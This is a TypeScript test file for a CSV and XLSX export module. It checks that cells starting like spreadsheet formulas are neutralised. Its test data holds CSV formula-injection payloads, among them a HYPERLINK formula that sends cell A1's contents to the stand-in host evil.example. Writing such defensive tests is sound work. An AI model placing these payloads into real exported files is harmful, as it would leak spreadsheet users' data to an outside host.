import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { csvFile } from './csv.ts';
import { isFormula, withoutFormulas } from './formula.ts';
import { xlsxFile } from './xlsx.ts';

const dangerous = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '\nx',
  '＝1+1',
  '＋1',
  '－1',
  '+86-139',
  '+8613928477550',
  '＠x',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(A1)',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1',
  `=HYPERLINK("http://evil.example?x="&A1,"Click")`,
];
const plain = [
  '',
  'A=1',
  '+86 139 2847 7550',
  '1+1',
  "'quoted",
  'a,b',
  'say "hi"',
  'two\r\nlines',
  'two\nlines',
  ' ',
  '客户',
  '😀',
  '&<>"',
];

const batches = async function* (cells: readonly string[]) {
  yield cells.map((cell) => [cell, 'next']);
};
async function collected(bytes: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Uint8Array[] = [];
  for await (const part of bytes) parts.push(part);
  return Buffer.concat(parts);
}

describe('spreadsheet formulas in exports [EXP-11]', () => {
  it.each(dangerous)('the cell text %j counts as a formula', (text) => {
    expect(isFormula(text)).toBe(true);
  });

  it.each(plain)('the cell text %j does not count as a formula', (text) => {
    expect(isFormula(text)).toBe(false);
  });

  it('a CSV cell that counts as a formula gets an apostrophe, and every other cell is unchanged', async () => {
    const file = await collected(csvFile(['=head', 'x'], batches([...dangerous, ...plain])));
    const rows: string[][] = parse(file, { bom: true, record_delimiter: '\r\n' });
    expect(rows.map(([first]) => first)).toEqual(["'=head", ...dangerous.map((text) => `'${text}`), ...plain]);
    expect(rows.every(([, second]) => second === 'next' || second === 'x')).toBe(true);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a; ﹦1+1;b', "a; '﹦1+1;b"],
    ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
    ['a;"=1+1', 'a;"\'=1+1'],
    ['a;b=1', 'a;b=1'],
  ])('the cell text %j is written without formulas after semicolons and tabs: %j', (text, safe) => {
    expect(withoutFormulas(text)).toBe(safe);
  });

  it('an XLSX cell that counts as a formula is written as text, and the sheet contains no formula', async () => {
    const texts = [...dangerous, ...plain.filter((text) => text !== '')];
    const sheet = { name: 'Customers', headings: ['first', 'x'], moments: [false, false], batches: batches(texts) };
    const file = await collected(xlsxFile(sheet, new Date('2026-03-02T08:00:00Z')));
    const [read] = await readXlsxFile(file, { trim: false });
    expect(read?.data.map(([first]) => first)).toEqual(['first', ...texts]);
    const xml = await sheetXml(file);
    expect(xml.includes('<f>')).toBe(false);
    // Format 3 stays text even when the cell is edited.
    const literal = [...xml.matchAll(/ s="3" t="inlineStr">/g)].length;
    expect(literal).toBe(dangerous.length);
  });

  it('an XLSX cell is written without characters that XML does not allow, and cut to 32,767 characters', async () => {
    const odd = ['a\u0000b', 'c\uD800d', 'e\uFFFEf', `${'x'.repeat(32_766)}yz`];
    const sheet = { name: 'C', headings: ['h', 'x'], moments: [false, false], batches: batches(odd) };
    const [read] = await readXlsxFile(await collected(xlsxFile(sheet, new Date(0))), { trim: false });
    expect(read?.data.slice(1).map(([first]) => first)).toEqual(['ab', 'cd', 'ef', `${'x'.repeat(32_766)}y`]);
  });

  it('writing a CSV or XLSX file fails with the error of its rows', async () => {
    const broken = async function* (): AsyncGenerator<string[][]> {
      yield [['a', 'b']];
      throw new Error('the rows broke off');
    };
    const sheet = { name: 'C', headings: ['h', 'x'], moments: [false, false], batches: broken() };
    await expect(collected(xlsxFile(sheet, new Date(0)))).rejects.toThrow('the rows broke off');
    await expect(collected(csvFile(['h', 'x'], broken()))).rejects.toThrow('the rows broke off');
  });
});

/** The XML of the sheet, unpacked independently of our own code. */
async function sheetXml(file: Buffer): Promise<string> {
  const { inflateRawSync } = await import('node:zlib');
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const header = file.indexOf(name) - 30;
  const begin = header + 30 + name.length + file.readUInt16LE(header + 28);
  return inflateRawSync(file.subarray(begin), { finishFlush: 2 }).toString();
}
